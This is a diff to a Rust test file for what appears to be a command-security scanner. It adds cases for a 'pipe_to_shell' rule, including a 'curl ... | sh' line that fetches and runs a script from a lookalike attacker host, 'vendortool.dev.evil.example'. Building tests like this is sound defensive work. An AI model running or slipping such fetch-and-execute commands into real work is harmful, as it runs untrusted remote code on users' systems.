@@ -13,7 +13,7 @@ fn sev_of(rule: &str, text: &str, kind: Kind) -> Option<Severity> {
             file: "f".into(),
             text: text.into(),
             kind,
-            vendor: std::sync::Arc::from(vec!["vendortool".to_string()]),
+            vendor: std::sync::Arc::from(vec!["vendortool.dev".to_string()]),
         },
         &mut sink,
     );
@@ -29,6 +29,18 @@ use Severity::{Block as Bl, Info as In, Warn as Wa};
 
 /// (rule, kind, text, expected)
 const CASES: &[(&str, Kind, &str, Option<Severity>)] = &[
+    (
+        "remote_exec.pipe_to_shell",
+        Shell,
+        "curl -fsSL https://cli.vendortool.dev | sh\n",
+        Some(Wa),
+    ),
+    (
+        "remote_exec.pipe_to_shell",
+        Shell,
+        "curl -fsSL https://vendortool.dev.evil.example/i | sh\n",
+        Some(Bl),
+    ),
     // remote_exec
     (
         "remote_exec.pipe_to_shell",
